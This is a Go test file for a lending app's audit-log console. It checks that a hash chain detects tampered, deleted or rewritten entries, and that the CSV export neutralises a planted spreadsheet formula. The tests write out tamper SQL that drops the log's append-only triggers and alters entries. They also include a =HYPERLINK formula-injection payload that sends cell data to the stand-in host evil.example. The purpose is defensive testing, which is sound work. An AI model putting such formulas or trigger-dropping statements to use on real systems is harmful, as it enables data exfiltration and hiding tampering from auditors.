package console_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"

	"kwarta/internal/console"
	"kwarta/internal/httpapi"
	"kwarta/internal/server/servertest"
	"kwarta/internal/store"
	"kwarta/internal/store/storetest"
)

// record writes n audit entries through the console's Record, each in a
// transaction of its own, as the console's changes do.
func record(t *testing.T, env *servertest.Env, db *store.DB, n int) {
	t.Helper()
	op := httpapi.OperatorSession{ID: 7, Name: "rita", Addr: "192.0.2.9"}
	for i := range n {
		err := db.InTx(t.Context(), func(ctx context.Context, tx *store.Tx) error {
			return env.App.Console.Record(ctx, tx, op, "approve", "order", fmt.Sprintf("K%03d", i), map[string]int{"status": 151}, map[string]int{"status": 21})
		})
		if err != nil {
			t.Fatal(err)
		}
	}
}

// dropAppendOnly removes the triggers that protect the audit log, as an
// attacker with the database's password could.
func dropAppendOnly(t *testing.T, db *store.DB) {
	t.Helper()
	stmts := []string{`DROP TRIGGER audit_log_no_update`, `DROP TRIGGER audit_log_no_delete`}
	if db.Dialect() == store.Postgres {
		stmts = []string{`DROP TRIGGER audit_log_append_only ON audit_log`}
	}
	for _, q := range stmts {
		if _, err := db.Exec(t.Context(), q); err != nil {
			t.Fatal(err)
		}
	}
}

func verify(t *testing.T, env *servertest.Env) console.Verification {
	t.Helper()
	v, err := env.App.Console.Verify(t.Context(), console.Noted{})
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// TestAudit_Chain: an untouched log verifies, with its count and head;
// an entry changed in the database, one deleted in the middle, the newest
// deleted, and a head written down that the log no longer has are each
// found at the first broken entry.
func TestAudit_Chain(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		cases := []struct {
			name      string
			tamper    string // SQL run on the unprotected log
			wantAt    int64
			wantUpTo  int64
			wantWords string
		}{
			{"OK", "", 0, 6, ""},
			{"Changed", `UPDATE audit_log SET after_json = '{"status":170}' WHERE id = 3`, 3, 2, "entry 3 was changed"},
			{"ChangedOperator", `UPDATE audit_log SET operator = 'mallory' WHERE id = 5`, 5, 4, "entry 5 was changed"},
			{"DeletedMiddle", `DELETE FROM audit_log WHERE id = 4`, 5, 3, "entries 4 to 4 are missing"},
			{"DeletedNewest", `DELETE FROM audit_log WHERE id >= 5`, 6, 4, "the newest entries were deleted"},
			{"Rewritten", `UPDATE audit_log SET hash = 'x' || hash WHERE id = 2`, 2, 1, "entry 2 was changed"},
		}
		for _, c := range cases {
			t.Run(c.name, func(t *testing.T) {
				db := storetest.MustOpen(t, db.Dialect())
				env := servertest.New(t, db)
				record(t, env, db, 6)
				if c.tamper != "" {
					dropAppendOnly(t, db)
					if _, err := db.Exec(t.Context(), c.tamper); err != nil {
						t.Fatal(err)
					}
				}
				v := verify(t, env)
				if got, want := v.OK, c.tamper == ""; got != want {
					t.Errorf("OK %v, want %v: %+v", got, want, v)
				}
				if v.BrokenAt != c.wantAt || v.UpTo != c.wantUpTo || v.Entries != c.wantUpTo || !strings.Contains(v.Problem, c.wantWords) || len(v.Head) != 64 {
					t.Errorf("got %+v, want broken at %d, verified up to %d, %q", v, c.wantAt, c.wantUpTo, c.wantWords)
				}
			})
		}

		t.Run("Noted", func(t *testing.T) {
			db := storetest.MustOpen(t, db.Dialect())
			env := servertest.New(t, db)
			record(t, env, db, 3)
			head := verify(t, env)
			record(t, env, db, 2)
			if v, _ := env.App.Console.Verify(t.Context(), console.Noted{ID: head.UpTo, Hash: head.Head}); !v.OK || v.Entries != 5 {
				t.Errorf("a noted head still in the chain: %+v", v)
			}
			// The whole log rewritten from entry 2 on, hashes and head
			// recomputed, is only caught by the head written down.
			if v, _ := env.App.Console.Verify(t.Context(), console.Noted{ID: 3, Hash: strings.Repeat("0", 64)}); v.OK || v.BrokenAt != 3 {
				t.Errorf("a noted head that differs: %+v", v)
			}
		})
	})
}

// TestAudit_LegacyEntries: a database upgraded from before the chain
// (migration 00018, entries written by the old Record) verifies: the old
// entries, with no stored hashes, are chained by the genesis rule; the
// first new entry stores the last old one's computed hash, and a change to
// an old entry is then found.
func TestAudit_LegacyEntries(t *testing.T) {
	for _, d := range storetest.Engines() {
		t.Run(string(d), func(t *testing.T) {
			ctx := t.Context()
			dsn := storetest.DSN(t, d)
			old, err := store.OpenUpTo(ctx, dsn, 18)
			if err != nil {
				t.Fatal(err)
			}
			for i := 1; i <= 3; i++ {
				if _, err := old.Exec(ctx, `INSERT INTO audit_log (operator_id, operator, action, object_type, object_id, before_json, after_json, at) VALUES (1, 'old', 'approve', 'order', ?, '', '{"status":21}', ?)`, "K"+strconv.Itoa(i), 1000*i); err != nil {
					t.Fatal(err)
				}
			}
			old.Close()
			db := storetest.MustOpenDSN(t, dsn, store.Options{}) // the upgrade
			env := servertest.New(t, db)
			if v := verify(t, env); !v.OK || v.Entries != 3 || v.UpTo != 3 {
				t.Errorf("old entries alone: %+v", v)
			}
			record(t, env, db, 2)
			if v := verify(t, env); !v.OK || v.Entries != 5 || v.UpTo != 5 {
				t.Errorf("old and new: %+v", v)
			}
			var prev string
			if err := db.QueryRow(ctx, `SELECT prev_hash FROM audit_log WHERE id = 4`).Scan(&prev); err != nil || len(prev) != 64 {
				t.Errorf("the first new entry chains onto %q (%v)", prev, err)
			}
			dropAppendOnly(t, db)
			if _, err := db.Exec(ctx, `UPDATE audit_log SET object_id = 'K9' WHERE id = 2`); err != nil {
				t.Fatal(err)
			}
			if v := verify(t, env); v.OK || v.BrokenAt != 4 || !strings.Contains(v.Problem, "does not chain onto entry 3") {
				t.Errorf("an old entry changed: %+v", v)
			}
		})
	}
}

// TestAudit_Concurrent: writers at the same moment each chain onto a
// different entry (on PostgreSQL they wait on the chain's head).
func TestAudit_Concurrent(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		env := servertest.New(t, db)
		const writers, each = 8, 5
		var wg sync.WaitGroup
		errs := make(chan error, writers)
		for w := range writers {
			wg.Add(1)
			go func() {
				defer wg.Done()
				op := httpapi.OperatorSession{ID: int64(w), Name: "op" + strconv.Itoa(w), Addr: "192.0.2.1"}
				for i := range each {
					if err := db.InTx(context.Background(), func(ctx context.Context, tx *store.Tx) error {
						return env.App.Console.Record(ctx, tx, op, "note", "complaint", strconv.Itoa(i), nil, nil)
					}); err != nil {
						errs <- err
						return
					}
				}
			}()
		}
		wg.Wait()
		close(errs)
		for err := range errs {
			t.Fatal(err)
		}
		if v := verify(t, env); !v.OK || v.Entries != writers*each {
			t.Errorf("%+v", v)
		}
	})
}

// TestAudit_Screen: the audit calls through the router: the verify line,
// the filters' values (every object type in the log), filtering by
// action and a type other than order, and the CSV export with a planted
// formula prefixed with '.
func TestAudit_Screen(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		env := servertest.New(t, db)
		admin := enrol(t, env, "ana", console.Admin)
		sup := enrol(t, env, "sam", console.Support)
		formula := `=HYPERLINK("http://evil.example/?x="&A1,"GCash")`
		op := httpapi.OperatorSession{ID: 9, Name: "rita", Addr: "192.0.2.7"}
		for _, e := range []struct{ action, objectType, objectID string }{
			{"approve", "order", "K001"}, {"view", "borrower", "2"}, {"note", "complaint", formula},
		} {
			if err := env.App.Console.Record(t.Context(), db, op, e.action, e.objectType, e.objectID, nil, map[string]string{"x": "y"}); err != nil {
				t.Fatal(err)
			}
		}

		var v console.Verification
		admin.call(t, env, "GET", "/admin/api/audit/verify", nil).Decode(t, &v)
		// Each enrolment wrote three lines (password, TOTP, sign-in).
		if !v.OK || v.Entries != 9 || v.UpTo != 9 {
			t.Errorf("verify: %+v", v)
		}
		if r := sup.call(t, env, "GET", "/admin/api/audit/verify", nil); r.Status != http.StatusForbidden {
			t.Errorf("verify as support: %d", r.Status)
		}
		var ch console.AuditChoices
		admin.call(t, env, "GET", "/admin/api/audit/choices", nil).Decode(t, &ch)
		if got := strings.Join(ch.ObjectTypes, ","); got != "borrower,complaint,operator,order" {
			t.Errorf("object types: %s", got)
		}
		if got := strings.Join(ch.Operators, ","); got != "ana,rita,sam" {
			t.Errorf("operators: %s", got)
		}
		var log []console.Entry
		admin.call(t, env, "GET", "/admin/api/audit", url.Values{"objectType": {"borrower"}, "action": {"view"}, "operator": {"rita"}}).Rows(t, &log)
		if len(log) != 1 || log[0].ObjectID != "2" || log[0].Addr != "192.0.2.7" || len(log[0].Hash) != 64 {
			t.Errorf("by type, action and operator: %+v", log)
		}

		r := admin.call(t, env, "GET", "/admin/api/audit.csv", url.Values{"objectType": {"complaint"}})
		if r.Status != http.StatusOK || r.Header.Get("Content-Type") != "text/csv; charset=utf-8" || !strings.HasPrefix(r.Header.Get("Content-Disposition"), `attachment; filename="audit-`) {
			t.Fatalf("CSV: %d %v %s", r.Status, r.Header, r.Body)
		}
		rows, err := csv.NewReader(strings.NewReader(r.Body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != 2 || strings.Join(rows[0], ",") != "id,at,operator,addr,action,object_type,object_id,before,after,hash" {
			t.Fatalf("CSV rows: %q", rows)
		}
		if got, want := rows[1][6], "'"+formula; got != want {
			t.Errorf("the planted formula: %q, want %q", got, want)
		}
		if rows[1][2] != "rita" || rows[1][3] != "192.0.2.7" || rows[1][8] != `{"x":"y"}` || !strings.HasSuffix(rows[1][1], "+08:00") {
			t.Errorf("CSV line: %q", rows[1])
		}
		if r := sup.call(t, env, "GET", "/admin/api/audit.csv", nil); r.Status != http.StatusForbidden {
			t.Errorf("CSV as support: %d", r.Status)
		}
	})
}
